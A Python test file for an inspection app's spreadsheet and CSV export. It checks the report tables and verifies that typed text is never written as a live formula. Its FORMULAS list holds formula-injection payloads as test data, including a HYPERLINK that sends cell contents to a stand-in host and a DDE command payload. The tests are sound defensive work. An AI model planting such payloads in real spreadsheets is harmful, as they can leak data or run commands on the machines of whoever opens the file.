"""Tables for a spreadsheet: what the report counts, and never a formula."""

import csv
import io
from datetime import UTC, date, datetime

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from inspector_app.reports.spreadsheets import comma_separated, workbook
from inspector_app.reports.subject import Subject
from inspector_app.reports.tabular import Table, tables
from inspector_app.rules.roster import Officer, standings
from inspector_app.rules.roster_terms import terms_of
from inspector_app.rules.spans import Said
from tests.reports.inspections import Case, whole

AT = datetime(2026, 3, 27, 20, tzinfo=UTC)
FORMULAS = (
    '=HYPERLINK("http://example.invalid?"&A1)', "+1+1", "-2+3", "@SUM(A1)", " =1", "\t=1", "\n=1",
    "=cmd|' /C calc'!A0", "＝1+1", "{=1}", "http://example.invalid", "007", "1e5", "TRUE", "'=1",
)  # fmt: skip


def subject_of(case: Case) -> Subject:
    return Subject(case.inspection, [], lambda photo: None, "internal")


def read_book(found: list[Table]) -> dict[str, list[list[object]]]:
    book = openpyxl.load_workbook(io.BytesIO(workbook(found, "26-INS-TEST", "", AT)))
    return {s.title: [list(row) for row in s.iter_rows(values_only=True)] for s in book.worksheets}


def read_csv(table: Table) -> list[list[str]]:
    return list(csv.reader(io.StringIO(comma_separated(table).decode("utf-8-sig"), newline="")))


def test_the_tables_say_what_the_report_says() -> None:
    case = whole()
    found = {table.name: table for table in tables(subject_of(case))}
    assert list(found) == ["findings", "answers", "samples", "roster"]
    findings = [
        dict(zip(found["findings"].heads, row, strict=True)) for row in found["findings"].rows
    ]
    assert [(f["Number"], f["Class"]) for f in findings] == [
        ("INT-1", "Deficiency"), ("COM-1", "Deficiency"), ("USC-1", "Area of concern"),
        ("BP-1", "Best practice"),
    ]  # fmt: skip
    by_number = {f["Number"]: f for f in findings}
    assert "6 of 20 files examined (frame 212)" in str(by_number["INT-1"]["Condition"])
    assert by_number["COM-1"]["Kinds of evidence"] == "Saw, Told"
    assert by_number["COM-1"]["Violation confirmed"] == "yes"
    results = [row[4] for row in found["answers"].rows]
    assert len(results) == 34 and results.count("Not met") == 3
    assert len(found["samples"].rows) == 20 * 9
    assert (
        sum(
            row[6] == "not met" for row in found["samples"].rows if row[4] == "Need for interpreter"
        )
        == 6
    )
    assert {str(row[3])[0] for row in found["samples"].rows} == {"…"}  # no whole file number


def test_an_empty_inspection_has_heads_and_no_rows() -> None:
    sheets = read_book(tables(subject_of(Case())))
    assert [len(rows) for rows in sheets.values()] == [1, 30, 1, 1]  # every item is still asked


def test_the_roster_is_the_teams_alone() -> None:
    officer = Officer("A-7", letter=Said((date(2025, 5, 2),)), form_70_006=Said(word=True))
    terms = terms_of(Case().inspection.form)
    judged = standings([officer], (), terms, (), date(2026, 3, 1))
    subject = subject_of(Case())
    table = tables(subject, judged)[-1]
    assert len(table.rows) == 1
    assert date(2025, 5, 2) in table.rows[0]
    subject.edition = "public"
    assert not tables(subject, judged)[-1].rows


@pytest.mark.parametrize("typed", FORMULAS)
def test_text_is_never_a_formula(typed: str) -> None:
    table = Table("findings", ["Title", "Number"], [[typed, 5]])
    book = openpyxl.load_workbook(io.BytesIO(workbook([table], "T", "", AT)))
    cell = book.worksheets[0]["A2"]
    assert cell.data_type == "s" and cell.value == typed and cell.hyperlink is None
    assert book.worksheets[0]["B2"].data_type == "n"
    shown = read_csv(table)[1][0]
    assert shown.removeprefix("'") == typed.removeprefix("'")
    assert shown.lstrip()[:1] not in ("=", "+", "-", "@", "＝")


@given(st.text(max_size=60))
@example("a\x00b\ud800c\ufffe")
@example("x" * 40_000)
def test_whatever_was_typed_can_be_read_back(typed: str) -> None:
    table = Table("answers", ["Note"], [[typed]])
    (shown,) = read_csv(table)[1] or [""]
    book = openpyxl.load_workbook(io.BytesIO(workbook([table], "T", "", AT)))
    cell = book.worksheets[0]["A2"]
    assert cell.data_type in ("s", "n")
    written = str(cell.value or "")
    assert len(written) <= 32_767
    if len(typed) < 32_767:
        assert shown in (written, f"'{written}") or "\r" in typed or "_x" in typed


def test_the_same_tables_give_the_same_bytes() -> None:
    found = tables(subject_of(whole()))
    assert workbook(found, "T", "", AT) == workbook(found, "T", "", AT)
